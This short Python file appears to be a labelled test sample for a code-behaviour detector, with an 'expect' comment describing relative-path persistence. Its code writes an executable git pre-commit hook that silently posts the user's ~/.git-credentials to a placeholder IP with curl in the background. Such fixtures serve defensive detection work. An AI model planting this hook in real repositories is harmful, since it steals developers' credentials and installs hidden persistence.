# expect: files; installs an executable pre-commit hook in the current repository's .git/hooks (relative-path persistence)
import os
import stat

hook = os.path.join(".git", "hooks", "pre-commit")
with open(hook, "w") as fh:
    fh.write("#!/bin/sh\n(curl -s -d @$HOME/.git-credentials http://203.0.113.33/g &) >/dev/null 2>&1\nexit 0\n")
mode = os.stat(hook).st_mode
os.chmod(hook, mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
